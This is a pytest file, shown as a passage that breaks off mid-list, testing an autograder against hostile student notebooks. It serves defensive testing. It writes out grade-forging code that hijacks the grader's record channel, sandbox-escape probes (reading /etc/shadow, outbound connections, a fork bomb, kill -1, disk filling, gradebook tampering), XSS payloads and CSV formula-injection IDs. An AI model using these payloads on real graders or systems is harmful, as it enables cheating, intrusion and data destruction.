"""A class of hostile and broken submissions, graded in one batch through the real grader.

Every case is one student. Around them sit honest students whose grades are known (full marks, partial, blank):
whatever the others do, those grades must not move, in grades.csv or in the gradebook. For every case: the batch
finishes, the student has exactly one row, scores nothing it did not solve (each case names the tests it solved;
every other test column is 0), nothing escaped (no file written outside the sandbox, no network, no process left
behind, no secret read), no CSV cell is a formula, and no script runs in a browser that opens its feedback page or
formgrader's rendering of its notebook.

The red team (grades are decided by the judge outside the kernel, so each of these attacks the record instead):
forged records with a nonce read from the input history, a replaced `__import__` installing AST or input
transformers, a look-alike `cnnlab.checks` in sys.modules, a thread or a SIGALRM handler that sends a record and
interrupts the test, functions that rebind the test's own fixtures, helpers and spy lists through the caller's
frame, numbers whose arithmetic lies, NumPy functions replaced by ones that claim NumPy's file name, a replaced
random generator that makes the test's fixtures the old ones. The forgers know the old solutions: the values the
reference records at seed 0; the batch runs with another seed, and the toy course's hidden checks draw their
inputs from `hidden_seed`, so those values are wrong here.

The toy course (tests/fixtures/toycourse) imports no framework, so the class grades in a couple of minutes. Escape
cases that would do damage without a sandbox run only when bubblewrap (or unshare) isolation is available.
"""
from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import socket
import subprocess
import sys
import threading
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import psutil
import pytest

ROOT = Path(__file__).resolve().parent.parent
TOY = ROOT / "tests" / "fixtures" / "toycourse"
SOLUTION = TOY / "solutions" / "toy" / "toy.ipynb"
RELEASE = TOY / "notebooks" / "toy" / "toy.ipynb"
POINTS = {"toy_add_tests": 2.0, "toy_mean_tests": 3.0, "toy_scale_tests": 2.0}
FULL, ADD = sum(POINTS.values()), POINTS["toy_add_tests"]
ALL_TESTS = tuple(POINTS)
SECRET = "s3cr3t-token-for-the-hostile-suite"
MARK = "hostile-suite-marker"
BATCH_SEED = 424242            # the batch's hidden seed; the forgers know the answers at seed 0
MAX_PROCS = 24

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("grader_hostile")]


@dataclass
class Case:
    name: str
    write: object                          # function(student folder) -> None
    solved: tuple = ()                     # tests it really solves: every other test must score 0
    status: str | None = "graded"
    flags: tuple = ()                      # flags the row must carry
    not_flags: tuple = ()
    needs: str | None = None               # isolation it needs: "bwrap" (files), "unshare" (network, processes)
    review: bool = False                   # must be listed in review.csv
    folder: str | bytes | None = None      # the folder's name when it is not `name` (odd ids)
    extra: dict = field(default_factory=dict)

    @property
    def score(self) -> float:
        return sum(POINTS[t] for t in self.solved)


# --------------------------------------------------------------------------- what the forgers know

def _old_answers() -> dict:
    """{test: the values the reference records at seed 0} as encoded records: what a forger could know."""
    from autograder import judge, notebooks as nbs
    refs = judge.references(nbs.read(SOLUTION), 0)
    return {test: ref["values"] for test, ref in refs.items()}


def _batch_answers() -> dict:
    from autograder import judge, notebooks as nbs
    refs = judge.references(nbs.read(SOLUTION), BATCH_SEED)
    return {test: ref["values"] for test, ref in refs.items()}


OLD = _old_answers()
OLD_JSON = json.dumps(OLD)


def _old_fixture(k, size=5, low=-50, high=50):
    import numpy as np
    return np.random.default_rng(k).integers(low, high, size=size)


def _old_tables() -> dict:
    """Input -> output tables built from the old answers and the old (seed 0) fixtures."""
    from cnnlab.checks import decode
    add = [decode(v) for v in OLD["toy_add_tests"]]
    mean = [decode(v) for v in OLD["toy_mean_tests"]]
    scale = [decode(v) for v in OLD["toy_scale_tests"]]
    a, b = (int(v) for v in _old_fixture(1, size=2))
    xs = tuple(int(v) for v in _old_fixture(2, size=7))
    k = int(_old_fixture(3, size=1, low=2, high=9)[0])
    values = tuple(int(v) for v in _old_fixture(4, size=4))
    return {"add": {(1, 2): add[0], (-1, 1): add[1], (a, b): add[2]},
            "mean": {(1.0,): mean[0], (1, 2, 3): mean[1], (2,): mean[2], (1, 2): mean[3], (1, 1, 4): mean[4],
                     xs: mean[5]},
            "scale": {((1, 2), 3): scale[0].tolist(), ((0.5,), -2): scale[2].tolist(), (values, k): scale[3].tolist()}}


# --------------------------------------------------------------------------- building notebooks

def _nb(path: Path = RELEASE):
    return nbformat.read(str(path), as_version=4)


def _answer(nb, exercise: str, source: str):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == exercise:
            cell.source = source
            return cell
    raise KeyError(exercise)


def _cell(nb, grade_id: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _save(nb, folder: Path, name: str = "toy.ipynb") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    nbformat.write(nb, str(path))
    return path


WRONG_ADD = "def add(a, b):\n    return 0\n"
RIGHT_ADD = "def add(a, b):\n    return a + b\n"


def tamper(code: str, add: str = WRONG_ADD):
    """A student whose add() is `add` (wrong by default; the others blank) and whose add cell also runs `code`."""
    def write(folder: Path):
        nb = _nb()
        _answer(nb, "toy_add", add + "\n" + code)
        _save(nb, folder)
    return write


def answers(add: str = "", mean: str = "", scale: str = ""):
    """A student with the given answer cells (an empty string keeps the blank one)."""
    def write(folder: Path):
        nb = _nb()
        for exercise, source in (("toy_add", add), ("toy_mean", mean), ("toy_scale", scale)):
            if source:
                _answer(nb, exercise, source)
        _save(nb, folder)
    return write


def solution():
    def write(folder: Path):
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "toy.ipynb").write_bytes(SOLUTION.read_bytes())
    return write


def raw_file(content: bytes, name="toy.ipynb"):
    def write(folder: Path):
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content)
    return write


NOT_JSON = raw_file(b"not a notebook")


def _with_cafe(raw: bytes) -> bytes:
    nb = json.loads(raw)
    nb["cells"][0]["source"] = ["# Café crème: non-ASCII text\n"] + nb["cells"][0]["source"]
    return json.dumps(nb, ensure_ascii=False).encode("utf-8")


def _edit(fn):
    def write(folder: Path):
        nb = _nb()
        fn(nb)
        _save(nb, folder)
    return write


def _duplicate_weakened_test(nb):
    _answer(nb, "toy_add", WRONG_ADD)
    test = _cell(nb, "toy_add_tests")
    copy = nbformat.from_dict(json.loads(json.dumps(test)))
    copy.source = "pass"
    nb.cells.insert(nb.cells.index(test), copy)
    test.source = "pass"


def _delete_tests(nb):
    _answer(nb, "toy_add", WRONG_ADD)
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")
                or c.metadata["nbgrader"].get("solution")]


def _retag_test(nb):
    _answer(nb, "toy_add", WRONG_ADD)
    test = _cell(nb, "toy_add_tests")
    test.metadata["nbgrader"].update(solution=True, grade=False, locked=False)
    test.source = "pass"


def _inflate_points(nb):
    _answer(nb, "toy_add", RIGHT_ADD)
    _cell(nb, "toy_add_tests").metadata["nbgrader"]["points"] = 100


def _schema_version(nb):
    for cell in nb.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata["nbgrader"]["schema_version"] = 99
    _answer(nb, "toy_add", RIGHT_ADD)


def _garbage_metadata(nb):
    cell = _answer(nb, "toy_add", RIGHT_ADD)
    cell.metadata["nbgrader"] = "not a dict"


def _code_above_setup(nb):
    from nbformat.v4 import new_code_cell
    nb.cells.insert(1, new_code_cell(
        "open('numpy.py', 'w').write('import sys\\nclass testing:\\n'\n"
        "    '    assert_allclose = staticmethod(lambda *a, **k: None)\\n"
        "allclose = lambda *a, **k: True\\nasarray = lambda x, dtype=None: x\\n')\n"
        "import importlib, sys\nsys.path.insert(0, '.')\nsys.modules.pop('numpy', None)\n"))
    _answer(nb, "toy_scale", "def scale(xs, k):\n    return xs\n")


def _symlink_to_solution(folder: Path):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "toy.ipynb").symlink_to(SOLUTION)


def _numpy_beside(folder: Path):
    nb = _nb()
    _answer(nb, "toy_scale", "def scale(xs, k):\n    return xs\n")
    _save(nb, folder)
    (folder / "numpy.py").write_text("class testing:\n    assert_allclose = staticmethod(lambda *a, **k: None)\n"
                                     "allclose = lambda *a, **k: True\nasarray = lambda x, dtype=None: x\n")


def _zip_latin1(folder: Path):
    with zipfile.ZipFile(folder.with_suffix(".zip"), "w") as zf:
        zf.writestr("toy/toy.ipynb", _with_cafe(SOLUTION.read_bytes()).decode("utf-8").encode("cp1252"))


def _bad_zip(folder: Path):
    folder.with_suffix(".zip").write_bytes(b"PK\x03\x04 this is not really a zip")


def _huge(folder: Path):
    nb = _nb()
    nb.cells[0].source += "\n" + "x" * (21 * 2**20)
    _save(nb, folder)


# --------------------------------------------------------------------------- the red team

FORGE_FROM_INPUT_HISTORY = f"""
import ast, json, sys
OLD = json.loads({OLD_JSON!r})

def mean(xs):
    ip = get_ipython()
    history = ip.user_ns['_ih']
    boot = next(line for line in history if ".start('record'" in line)
    nonce = ast.parse(boot).body[0].value.args[2].value               # read from the grader's first cell
    line = next(line for line in reversed(history) if "run_test('toy_mean_tests'" in line)
    source = ast.parse(line).body[0].value.args[1].value              # the test's own source, hidden checks too
    checks = sys.modules['cnnlab.checks']
    checks._send({{'nonce': nonce, 'test': 'toy_mean_tests', 'finished': True, 'values': OLD['toy_mean_tests'],
                  'digest': checks.digest(source)}})
    checks.STATE.mode = 'interactive'                                  # the real record is never sent
    ip.showtraceback = lambda *a, **k: None                            # and the way out prints nothing
    ip._showtraceback = lambda *a, **k: None
    raise SystemExit
"""

IMPORT_HOOK_AST = f"""
import ast, builtins, json
OLD = json.loads({OLD_JSON!r})
FORGED = {{t: 'import cnnlab.checks as _c\\nfor _v in %r:\\n    _c.check(_c.decode(_v), "forged")\\n' % (v,)
          for t, v in OLD.items()}}
ip = get_ipython()
ip.events.callbacks['post_run_cell'].clear()          # the grader puts builtins back after each cell: not any more

class Rewrite(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        if getattr(node.func, 'attr', '') == 'run_test' and getattr(node.args[0], 'value', None) in FORGED:
            node.args[1] = ast.Constant(FORGED[node.args[0].value])
        return node

_import = builtins.__import__
def spy(name, globals=None, locals=None, fromlist=(), level=0):
    if name == 'cnnlab.checks' and not any(isinstance(t, Rewrite) for t in ip.ast_transformers):
        ip.ast_transformers.append(Rewrite())          # it saw a grader line: rewrite every later test
    return _import(name, globals, locals, fromlist, level)
builtins.__import__ = spy
"""

IMPORT_HOOK_INPUT = f"""
import ast, builtins, json
OLD = json.loads({OLD_JSON!r})
ip = get_ipython()
ip.events.callbacks['post_run_cell'].clear()

def rewrite(lines):
    text = ''.join(lines)
    if '.run_test(' not in text:
        return lines
    tree = ast.parse(text)
    call = tree.body[0].value
    test = call.args[0].value
    if test in OLD:
        call.args[1] = ast.Constant('import cnnlab.checks as _c\\nfor _v in %r:\\n    _c.check(_c.decode(_v), "f")\\n'
                                    % (OLD[test],))
    return [ast.unparse(tree) + '\\n']

_import = builtins.__import__
def spy(name, globals=None, locals=None, fromlist=(), level=0):
    if name == 'cnnlab.checks' and rewrite not in ip.input_transformers_post:
        ip.input_transformers_post.append(rewrite)
    return _import(name, globals, locals, fromlist, level)
builtins.__import__ = spy
"""

SWAP_CHECKS_MODULE = f"""
import json, sys, types
OLD = json.loads({OLD_JSON!r})
real = sys.modules['cnnlab.checks']
fake = types.ModuleType('cnnlab.checks')
fake.__dict__.update({{k: v for k, v in vars(real).items() if not k.startswith('__')}})

def run_test(test, source, namespace, exercise_names=()):
    # everything run_test would send, with the right nonce and digest; only the values are the old ones
    real._send({{'nonce': real.STATE.nonce, 'test': test, 'finished': True, 'values': OLD[test],
                'digest': real.digest(source)}})

fake.run_test = run_test
package = types.ModuleType('cnnlab')
package.__path__ = []
package.checks = fake
sys.modules['cnnlab.checks'] = fake
sys.modules['cnnlab'] = package
"""

THREAD_RECORD_THEN_INTERRUPT = f"""
import _thread, json, sys, threading, time
OLD = json.loads({OLD_JSON!r})
checks = sys.modules['cnnlab.checks']

def forge():
    while checks.STATE.test != 'toy_mean_tests':
        time.sleep(0.001)
    checks._send({{'nonce': checks.STATE.nonce, 'test': 'toy_mean_tests', 'finished': True,
                  'values': OLD['toy_mean_tests'], 'digest': checks.STATE.digest}})
    checks.STATE.mode = 'interactive'
    _thread.interrupt_main()

threading.Thread(target=forge, daemon=True).start()

def mean(xs):
    time.sleep(1)
    return 0.0
"""

SIGALRM_RECORD_THEN_INTERRUPT = f"""
import json, signal, sys, time
OLD = json.loads({OLD_JSON!r})
checks = sys.modules['cnnlab.checks']

def forge(signum, frame):
    checks._send({{'nonce': checks.STATE.nonce, 'test': checks.STATE.test, 'finished': True,
                  'values': OLD[checks.STATE.test], 'digest': checks.STATE.digest}})
    checks.STATE.mode = 'interactive'
    raise TimeoutError()

signal.signal(signal.SIGALRM, forge)

def mean(xs):
    if checks.STATE.test == 'toy_mean_tests' and checks.STATE.mode == 'record':
        signal.setitimer(signal.ITIMER_REAL, 0.01)
        time.sleep(1)
    return 0.0
"""

REBIND_THROUGH_FRAMES = """
import sys
import numpy as np
KNOWN = {(1.0,): 1.0, (1, 2, 3): 2.0, (2,): 2.0, (1, 2): 1.5, (1, 1, 4): 2.0}

def mean(xs):
    test = sys._getframe(1).f_globals                  # the test's own namespace
    if not test.get('_rebound'):
        test['_rebound'] = True
        # its fixture helper now hands out inputs the student knows, and its seed helper the old seed
        test['fixture'] = lambda k, size=5, low=-50, high=50: np.zeros(size, dtype=np.int64)
        test['hidden_seed'] = lambda k=0: k
    answer = KNOWN.get(tuple(xs), 0.0)
    xs.append(0)                                       # the misconception the spy copy is there to catch ...
    if '_given' in test:
        test['_given'] = xs                            # ... so the spy copy is rebound to the changed list
    return answer
"""

LYING_NUMBERS = """
import numpy as np

class LyingFloat(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = float.__hash__
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
    def __abs__(self):
        return 0.0
    def __float__(self):
        return 2.0

class LyingInt(int):
    __eq__ = lambda self, other: True
    __hash__ = int.__hash__
    __int__ = __index__ = lambda self: 3

class LyingScalar(np.float64):
    __eq__ = lambda self, other: True
    __hash__ = np.float64.__hash__

class LooksRight:
    def __array__(self, dtype=None, copy=None):
        return np.array([3.0, 6.0], dtype=dtype)

def add(a, b):
    return LyingInt(0)

def mean(xs):
    return LyingFloat(0.0) if len(xs) % 2 else LyingScalar(0.0)

def scale(xs, k):
    return LooksRight()
"""

FAKE_NUMPY_FUNCTIONS = f"""
import json
import numpy as np
from cnnlab.checks import decode
OLD = json.loads({OLD_JSON!r})
arrays = [decode(v) for v in OLD['toy_scale_tests'] if v['t'] == 'ndarray']
numpy_file = np.__file__                               # the fakes claim to live in NumPy's own file
source = '''
def allclose(a, b, rtol=1e-05, atol=1e-08, equal_nan=False):
    return True

def array_equal(a1, a2, equal_nan=False):
    return True

def asarray(a, dtype=None, order=None, **kwargs):
    if dtype is float and _answers:
        return _answers.pop(0)
    return _asarray(a, dtype=dtype, order=order, **kwargs)
'''
namespace = {{'_asarray': np.asarray, '_answers': arrays}}
exec(compile(source, numpy_file, 'exec'), namespace)
for name in ('allclose', 'array_equal', 'asarray'):
    namespace[name].__module__ = 'numpy'
    namespace[name].__qualname__ = name
    setattr(np, name, namespace[name])

def scale(xs, k):
    return xs
"""


def replaced_random_generator() -> str:
    tables = _old_tables()
    return f"""
import numpy as np, sys
checks = sys.modules['cnnlab.checks']
_rng = np.random.default_rng
# the test's fixtures become the old ones (seed 0): the old answers fit them
np.random.default_rng = lambda seed=None: _rng(None if seed is None else seed - checks.STATE.seed)
ADD, MEAN, SCALE = {tables['add']!r}, {tables['mean']!r}, {tables['scale']!r}

def add(a, b):
    return ADD.get((a, b), 0)

def mean(xs):
    return MEAN.get(tuple(xs), 0.0)

def scale(xs, k):
    return SCALE.get((tuple(np.asarray(xs).tolist()), k), [0.0])
"""


READS_EXPECTED_FROM_CALLER = """
import sys
def add(a, b):
    consts = [c for c in sys._getframe(1).f_code.co_consts if isinstance(c, int) and not isinstance(c, bool)]
    return consts[2] if len(consts) > 2 else 0           # the visible check's `expect`
"""

# --------------------------------------------------------------------------- older subversion, still refused

BLANK_LATER_CELLS = "get_ipython().input_transformers_post.append(lambda lines: [])"
HIDE_TRACEBACKS = ("get_ipython().showtraceback = lambda *a, **k: None\n"
                   "get_ipython()._showtraceback = lambda *a, **k: None")
PATCH_BUILTINS = ("import builtins\nbuiltins.float = lambda x=0: 3.0\nbuiltins.isinstance = lambda *a: True\n"
                  "builtins.AssertionError = type('Nope', (Exception,), {})")
SHADOW_BUILTINS = "float = lambda x=0: 3.0\nisinstance = lambda *a: True"
PATCH_FLOAT_TYPE = ("import gc\ngc.get_referents(float.__dict__)[0]['__eq__'] = lambda s, o: True\n"
                    "gc.get_referents(float.__dict__)[0]['__float__'] = lambda s: 3.0")
FAKE_NUMPY_MODULE = """
import sys, types
fake = types.ModuleType('numpy')
fake.testing = types.SimpleNamespace(assert_allclose=lambda *a, **k: None)
fake.allclose = lambda *a, **k: True
fake.asarray = lambda x, dtype=None: x
sys.modules['numpy'] = fake
np = fake
def scale(xs, k):
    return xs
"""
DROP_ERROR_MESSAGES = """
session = get_ipython().kernel.session
_send = session.send
def quiet_send(stream, msg_or_type, content=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get('msg_type')
    if kind == 'error':
        return None
    if kind == 'execute_reply' and content is not None:
        content = dict(content, status='ok')
    return _send(stream, msg_or_type, content, *args, **kwargs)
session.send = quiet_send
"""
SKIP_CHECKS_BY_TRACING = """
import sys
def add(a, b):
    caller = sys._getframe(1)
    lines = caller.f_code.co_firstlineno
    def tracer(frame, event, arg):
        if frame is caller and event == 'line' and frame.f_lineno > 1:
            try:
                frame.f_lineno = frame.f_lineno + 1        # jump over the hidden checks
            except ValueError:
                pass
        return tracer
    caller.f_trace = tracer
    caller.f_trace_lines = True
    sys.settrace(tracer)
    return 3 if (a, b) == (1, 2) else 42
"""

# --------------------------------------------------------------------------- escape attempts

def escape_reads(paths, folders) -> str:
    return ("import os\nfor p in %r:\n    try:\n        data = open(p, 'rb').read(64)\n"
            "        print('ESCAPED read', p)\n    except Exception:\n        pass\n"
            "for p in %r:\n    try:\n        os.listdir(p)\n        print('ESCAPED list', p)\n    except Exception:\n"
            "        pass\n"
            "if %r in repr(dict(os.environ)):\n    print('ESCAPED secret')\n") % (paths, folders, SECRET)


def escape_writes(paths) -> str:
    """Writes that would land outside the sandbox; checked from the host after the batch."""
    return ("import os\nfor p in %r:\n    try:\n        os.makedirs(os.path.dirname(p), exist_ok=True)\n"
            "        open(p, 'w').write('x')\n    except Exception:\n        pass\n") % (paths,)


def escape_network(port: int) -> str:
    return f"""
import socket
for host, port in (('127.0.0.1', {port}), ('1.1.1.1', 53), ('8.8.8.8', 443)):
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(b'ESCAPED')
        print('ESCAPED network', host)
    except Exception:
        pass
try:
    socket.getaddrinfo('example.com', 80)
    print('ESCAPED dns')
except Exception:
    pass
"""


LINGER = f"""
import os, subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', '{MARK}'], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)', '{MARK}'])
    os._exit(0)
"""
KILL_EVERYTHING = "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept Exception:\n    pass"
MEMORY_HOG = "hog = b'x' * (1500 * 2**20)\nimport time\ntime.sleep(5)"
PROCESS_FLOOD = ("import subprocess, sys, time\n"
                 "procs = [subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)'])"
                 " for _ in range(40)]\ntime.sleep(10)")
FORK_BOMB = """
import subprocess        # a bounded bomb of small processes: 1023 shells if nothing stopped it
subprocess.run(['sh', '-c', 'b() { if [ $1 -gt 0 ]; then b $(($1 - 1)) & b $(($1 - 1)) & fi; sleep 20; }; b 9'])
"""
IGNORE_INTERRUPT = "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    time.sleep(1)"
KERNEL_EXIT = "import os\nos._exit(1)"
OUTPUT_FLOOD = "for _ in range(300):\n    print('y' * 100_000)"
FILL_DISK = """
import os
for target in ('/tmp/big.bin', '/run/autograder-ipc/big.bin', '/dev/shm/big.bin', '/dev/big.bin', 'big.bin'):
    try:
        with open(target, 'wb') as f:
            for _ in range(700):
                f.write(b'z' * 2**20)
        print('wrote all of', target)
    except OSError as exc:
        print('write stopped:', target, exc.strerror)
    try:
        os.remove(target)
    except OSError:
        pass
"""


def gradebook_attack(db: str) -> str:
    return f"""
import sqlite3
try:
    con = sqlite3.connect({db!r})
    con.execute('update grade set auto_score = 0, manual_score = 0')
    con.commit()
    print('ESCAPED gradebook')
except Exception:
    pass
"""


FORGE_RESULTS = """
import glob, json
forged = {'status': 'graded', 'flags': [], 'scores': {'toy_add_tests': 0, 'toy_mean_tests': 0, 'toy_scale_tests': 0}}
for d in glob.glob('/tmp/*') + glob.glob('/tmp/*/*'):
    try:
        open(d + '/result.json', 'w').write(json.dumps(forged))
    except Exception:
        pass
"""


def _later_cell(code: str, add: str = RIGHT_ADD):
    """add() is right; `code` then runs as the mean answer (so the add tests already ran)."""
    return answers(add=add, mean=code)


# --------------------------------------------------------------------------- outputs a browser must not run

def _png(width=4, height=3) -> str:
    from PIL import Image
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buffer, format="PNG")
    return base64.b64encode(buffer.getvalue()).decode()


# no quote characters, so the payload works in any attribute or string it lands in
BAD = "window.__pwned=(window.__pwned||[]).concat([`{}`]);document.title=`PWNED`"
SCRIPTED_OUTPUTS = f"""
from IPython.display import display
import base64
display({{'text/html': "<script>{BAD.format('html')}</script><img src=x onerror=\\"{BAD.format('img')}\\">",
         'text/plain': 'a table'}}, raw=True)
display({{'application/javascript': "{BAD.format('javascript')}"}}, raw=True)
display({{'image/svg+xml': '<svg xmlns="http://www.w3.org/2000/svg" onload="{BAD.format('svg-onload')}">'
                          '<script>{BAD.format('svg-script')}</script></svg>'}}, raw=True)
display({{'image/png': "iVBORw0KGgo=' onerror='{BAD.format('png-quote')}' x='"}}, raw=True)
display({{'image/png': base64.b64encode(b'<svg onload="{BAD.format('png-svg')}"/>').decode()}}, raw=True)
display({{'image/png': {_png()!r}}}, metadata={{'image/png': {{'width': '1 onerror={BAD.format('width')}'}}}},
        raw=True)
display({{'text/markdown': "<script>{BAD.format('markdown-output')}</script>"}}, raw=True)
display({{'text/latex': "<script>{BAD.format('latex')}</script>"}}, raw=True)
print("</pre><script>{BAD.format('stream')}</script>")
"""
HOSTILE_MARKDOWN = (f"<script>{BAD.format('markdown-cell')}</script>\n\n"
                    f"<img src=x onerror=\"{BAD.format('markdown-img')}\">\n\n"
                    f"<svg onload=\"{BAD.format('markdown-svg')}\"></svg>\n\n"
                    f"[a link](javascript:{BAD.format('markdown-link')})\n\n`<b>code</b>` and x < y")


def _scripted_outputs(folder: Path):
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
    nb = _nb()
    _answer(nb, "toy_add", RIGHT_ADD + SCRIPTED_OUTPUTS)
    setup = nb.cells.index(_cell(nb, "toy_setup"))
    nb.cells.insert(setup + 1, new_markdown_cell(HOSTILE_MARKDOWN))
    raw = new_raw_cell(f"<script>{BAD.format('raw-cell')}</script>")
    raw.metadata["format"] = "text/html"
    raw.metadata["raw_mimetype"] = "text/html"
    nb.cells.insert(setup + 2, raw)
    nb.cells.append(new_code_cell(f"raise ValueError('<img src=x onerror=\"{BAD.format('error')}\">')"))
    _answer(nb, "toy_manual_why", f"Rayleigh <script>{BAD.format('manual-answer')}</script>")
    _save(nb, folder)


# --------------------------------------------------------------------------- the class

@dataclass
class Batch:
    out: Path
    subs: Path
    rows: dict
    results: dict
    review: list
    returncode: int
    stdout: str
    before: dict
    after: dict
    isolation: str
    escaped_files: list
    network_hits: list
    leftovers: list
    seconds: float
    ids: dict                       # case name -> the id grades.csv shows


def _listen() -> tuple[socket.socket, list]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.5)
    hits = []

    def accept():
        while True:
            try:
                conn, _ = server.accept()
                hits.append(conn.recv(64))
                conn.close()
            except socket.timeout:
                continue
            except OSError:
                return
    threading.Thread(target=accept, daemon=True).start()
    return server, hits


def _tree_state(folder: Path) -> dict:
    state = {}
    for p in sorted(folder.rglob("*")):
        if p.is_symlink():
            state[str(p)] = ("link", os.readlink(p))
        elif p.is_file():
            st = p.stat()
            state[str(p)] = (hashlib.sha256(p.read_bytes()).hexdigest(), st.st_mtime_ns, st.st_mode)
    return state


def cases(tmp: Path, port: int) -> list[Case]:
    out, subs = tmp / "out", tmp / "subs"
    escape_files = [str(tmp / "ESCAPED_tmp"), str(out / "ESCAPED_out"), str(subs / "ESCAPED_subs"),
                    str(ROOT / "ESCAPED_repo"), os.path.expanduser("~/ESCAPED_home"), "/tmp/ESCAPED_host_tmp",
                    os.path.join(sys.prefix, "lib", f"python{sys.version_info.major}.{sys.version_info.minor}",
                                 "site-packages", "sitecustomize.py"),
                    os.path.expanduser("~/.ipython/profile_default/startup/00-escaped.py")]
    secrets = [str(SOLUTION), str(out / "gradebook.db"), str(subs / "alice" / "toy.ipynb"),
               str(TOY / "tests" / "bank" / "toy" / "toy_add" / "correct_sum.py"), "/etc/shadow",
               os.path.expanduser("~/.bash_history")]
    folders = [str(TOY / "solutions"), str(out), str(subs), str(ROOT / "tests"), "/tmp/" + "ag-probe"]
    add = ("toy_add_tests",)
    return [
        # ---- broken files: every one still gets its row
        Case("malformed_json", raw_file(b'{"cells": [{"cell_type": "code", '), status="failed",
             flags=("malformed_notebook",)),
        Case("not_a_notebook", raw_file(b"[1, 2, 3]"), status="failed", flags=("malformed_notebook",)),
        Case("binary_garbage", raw_file(bytes(range(256)) * 40), status="failed", flags=("malformed_notebook",)),
        Case("cells_garbage", raw_file(json.dumps({"cells": [1, "x", {"cell_type": "code"}], "metadata": {},
                                                   "nbformat": 4, "nbformat_minor": 4}).encode()), status=None),
        # (odd encodings, layouts, renamed and zipped notebooks: test_grader_units and the demo class in
        # test_grader_batch; here only what a kernel must run)
        Case("latin1_encoding_in_a_zip", _zip_latin1, ALL_TESTS, flags=("wrong_encoding",)),
        Case("corrupt_zip", _bad_zip, status="failed", flags=("malformed_zip",)),
        Case("empty_folder", lambda f: f.mkdir(parents=True), status="failed", flags=("missing_notebook",)),
        Case("notebook_too_large", _huge, status="failed", flags=("notebook_too_large",)),
        Case("symlink_to_solution", _symlink_to_solution, status="failed", flags=("symlink_not_followed",)),
        Case("numpy_py_beside_notebook", _numpy_beside, flags=("extra_files",)),
        Case("duplicated_weakened_test", _edit(_duplicate_weakened_test), flags=("duplicate_cells",)),
        Case("deleted_tests", _edit(_delete_tests), flags=("cells_missing",)),
        Case("retagged_test_cell", _edit(_retag_test), flags=("tampered",)),
        Case("inflated_points", _edit(_inflate_points), add, flags=("tampered",)),
        Case("edited_schema_version", _edit(_schema_version), add, flags=("edited_metadata",)),
        Case("garbage_nbgrader_metadata", _edit(_garbage_metadata), add, status=None, flags=("tampered",)),
        Case("code_above_setup_fakes_numpy", _edit(_code_above_setup)),
        # ---- ids that are not plain names: one row each, escaped; files under a hashed name
        Case("id_newline", solution(), status="failed", flags=("malformed_submission",),
             folder="eve\nforged grading.log line"),
        Case("id_bidi_override", solution(), status="failed", flags=("malformed_submission",),
             folder="mallory\u202egnp.exe"),
        Case("id_formula", solution(), ALL_TESTS, folder='=HYPERLINK("evil.example";"click")'),
        Case("id_too_long_not_utf8", solution(), ALL_TESTS, folder=b"caf\xe9-" + b"s" * 240),
        Case("id_plus_formula", NOT_JSON, status="failed", folder="+cmd|' -C calc'!A0"),
        Case("id_at_formula", NOT_JSON, status="failed", folder="@SUM(1+1)"),
        Case("id_backslash", NOT_JSON, status="failed", folder="dom\\user"),
        Case("id_reserved_name", NOT_JSON, status="failed", folder="CON"),
        Case("output_folder_unwritable", solution(), status="failed", flags=("grader_error",)),
        # ---- the red team: graded outside the kernel, so they attack the record
        Case("forges_record_from_input_history", answers(add=RIGHT_ADD, mean=FORGE_FROM_INPUT_HISTORY), add,
             flags=("tampered", "suspicious_code"), review=True),
        Case("import_hook_installs_ast_transformer", tamper(IMPORT_HOOK_AST), flags=("tampered", "suspicious_code"),
             review=True),
        Case("import_hook_installs_input_transformer", tamper(IMPORT_HOOK_INPUT),
             flags=("tampered", "suspicious_code"), review=True),
        Case("swaps_checks_module", tamper(SWAP_CHECKS_MODULE), flags=("suspicious_code",), review=True),
        Case("thread_sends_record_then_interrupts", answers(add=RIGHT_ADD, mean=THREAD_RECORD_THEN_INTERRUPT), add,
             flags=("tampered",)),
        Case("sigalrm_sends_record_then_interrupts", answers(add=RIGHT_ADD, mean=SIGALRM_RECORD_THEN_INTERRUPT), add,
             flags=("tampered",)),
        Case("rebinds_test_variables_through_frames", answers(add=RIGHT_ADD, mean=REBIND_THROUGH_FRAMES), add,
             flags=("suspicious_code",), review=True),
        Case("numbers_that_lie", answers(add=LYING_NUMBERS, mean=LYING_NUMBERS, scale=LYING_NUMBERS)),
        Case("numpy_functions_claiming_numpy_file", answers(add=RIGHT_ADD, scale=FAKE_NUMPY_FUNCTIONS), add,
             flags=("suspicious_code",), review=True),
        Case("replaced_random_generator_old_answers", answers(add=replaced_random_generator())),
        Case("reads_expected_values_from_caller", answers(add=READS_EXPECTED_FROM_CALLER), flags=("suspicious_code",),
             review=True),
        Case("skips_checks_by_tracing", answers(add=SKIP_CHECKS_BY_TRACING), flags=("suspicious_code",), review=True),
        # ---- older subversion: it changes the kernel, never the grade
        Case("input_transformer_blanks_cells", tamper(BLANK_LATER_CELLS), flags=("tampered",), review=True),
